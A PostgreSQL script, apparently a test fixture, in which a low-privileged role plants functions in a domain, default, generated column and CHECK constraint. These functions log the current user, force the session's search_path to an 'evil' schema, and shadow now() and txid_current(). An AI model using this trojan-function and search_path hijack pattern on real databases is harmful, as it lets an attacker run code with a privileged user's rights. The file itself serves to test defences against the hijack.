-- On the target, by a role with CREATE on schema public: tables whose rows run its function, which records as whom it ran.
CREATE TABLE public.ran (who text, place text);
GRANT ALL ON public.ran TO PUBLIC;

CREATE FUNCTION public.record(place text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.ran VALUES (current_user, place);
END $$;

-- Immutable by its own word, as generated columns demand.
CREATE FUNCTION public.note(place text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM public.record(place);
    -- What later statements of the session would read by.
    PERFORM set_config('search_path', 'evil, pg_catalog', false);
    RETURN true;
END $$;

CREATE DOMAIN public.code AS text CHECK (public.note('domain'));

CREATE TABLE public.items (
    id int PRIMARY KEY,
    embedding public.vector(2),
    code public.code,
    noted boolean DEFAULT public.note('default'),
    made boolean GENERATED ALWAYS AS (public.note('generated')) STORED,
    CHECK (public.note('check'))
);

-- Operators and functions that a session finds which reads by that path.
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;

CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.ran VALUES (current_user, 'now');
    RETURN pg_catalog.now();
END $$;

CREATE FUNCTION evil.txid_current() RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.ran VALUES (current_user, 'txid_current');
    RETURN pg_catalog.txid_current();
END $$;
